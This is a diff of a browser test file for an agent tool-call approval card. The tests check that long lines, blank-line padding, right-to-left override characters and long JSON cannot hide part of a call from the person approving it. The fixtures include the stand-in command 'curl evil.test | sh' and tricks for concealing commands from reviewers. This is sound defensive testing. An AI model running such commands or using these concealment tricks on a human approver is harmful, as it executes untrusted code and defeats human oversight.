@@ -25,7 +25,7 @@ const payload = (): Locator => card().locator('.payload').first()
 const button = (name: string | RegExp): Locator => card().getByRole('button', { name, exact: true })
 const approve = (): Locator => button('Approve')
 
-/** Leads to a call, and waits until it asks for approval. */
+/** Scrolls to a call, and waits until it requests approval. */
 async function show(deception: Deception): Promise<void> {
   const address = new URL(studio.server.url)
   address.searchParams.set('server', house.url)
@@ -50,7 +50,7 @@ async function expectGood(name: string): Promise<void> {
     await one.page.setViewportSize({ width, height })
     await card().scrollIntoViewIfNeeded()
     expect(await findFaults(one.page, '.chat-pane')).toEqual([])
-    // Nothing is cut off or scrolled within the card.
+    // Nothing is clipped or scrolled within the card.
     expect(await card().evaluate(listCut)).toEqual([])
     await keepPicture(one.page, `approval ${name} ${colorScheme} ${width}`)
   }
@@ -68,7 +68,7 @@ function listCut(root: Element): string[] {
   })
 }
 
-describe.skipIf(left)('what is approved is what is shown, whole', () => {
+describe.skipIf(left)('approvals show the complete call', () => {
   // Browsers note each request that is refused.
   withStudio({ noted: /status of 409/ })
 
@@ -100,7 +100,7 @@ describe.skipIf(left)('what is approved is what is shown, whole', () => {
     await expectGood('long clipped')
     const showAll = button('Show all 200 lines to approve')
     await showAll.focus()
-    // A key that is held down shows all, and does not go on to approve.
+    // A key that is held down shows all, and does not approve afterwards.
     for (let press = 0; press < 3; press++) await one.page.keyboard.press('Enter')
     await approve().waitFor()
     expect(ran).toEqual([])
@@ -109,7 +109,7 @@ describe.skipIf(left)('what is approved is what is shown, whole', () => {
     await expectApproved('long')
   })
 
-  test('two clicks at once show all, and do not approve', async () => {
+  test('two clicks in quick succession show all, and do not approve', async () => {
     await show('long')
     await button('Show all 200 lines to approve').dblclick()
     await approve().waitFor()
@@ -119,7 +119,7 @@ describe.skipIf(left)('what is approved is what is shown, whole', () => {
     await expectApproved('long')
   })
 
-  test('a long line wraps, and is shown whole before it is approved', async () => {
+  test('a long line wraps, and is shown completely before it is approved', async () => {
     await show('wide')
     expect(await payload().innerText()).not.toContain('evil.test')
     await button('Show all 9,026 characters to approve').click()
@@ -128,7 +128,7 @@ describe.skipIf(left)('what is approved is what is shown, whole', () => {
     await expectApproved('wide')
   })
 
-  test('blank lines and spaces push nothing out of sight', async () => {
+  test('blank lines and spaces hide nothing', async () => {
     await show('blank')
     expect(await payload().innerText()).toMatch(/^ls -la\s+120 blank lines\s+curl evil.test \| sh$/)
     await expectGood('blank lines')
@@ -145,7 +145,7 @@ describe.skipIf(left)('what is approved is what is shown, whole', () => {
       .getByText(/^Contains 1 hidden character, marked below: Right-to-left/)
       .waitFor()
     const mark = payload().getByRole('img', { name: 'Right-to-left override, U+202E' })
-    // What stands behind the mark in the text is drawn to its right, in order.
+    // The text after the mark is drawn to its right, in order.
     const places = await payload().evaluate((element) => {
       const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT)
       const lefts: number[] = []
@@ -206,7 +206,7 @@ describe.skipIf(left)('what is approved is what is shown, whole', () => {
     await expectApproved('patch')
   })
 
-  test('long JSON is shown whole before it is approved or changed', async () => {
+  test('long JSON is shown completely before it is approved or changed', async () => {
     await show('json')
     await button(/^Show all \d+ lines to approve$/).waitFor()
     await button('Edit').click()
@@ -236,7 +236,7 @@ describe.skipIf(left)('what is approved is what is shown, whole', () => {
     await expectApproved('override')
   })
 
-  test('a request that has expired says so, and nothing runs', async () => {
+  test('an expired request is marked as expired, and nothing runs', async () => {
     await show('blank')
     await card()
       .getByText(/The request expires on .*\d/)
@@ -250,7 +250,7 @@ describe.skipIf(left)('what is approved is what is shown, whole', () => {
     await one.page.locator('.decision-note', { hasText: /^Expired, / }).waitFor()
   })
 
-  test('a call says who decided and when, and the session lists its decisions', async () => {
+  test('a call shows who decided and when, and the session lists its decisions', async () => {
     const { page } = one
     await show('path')
     await expectApproved('path')
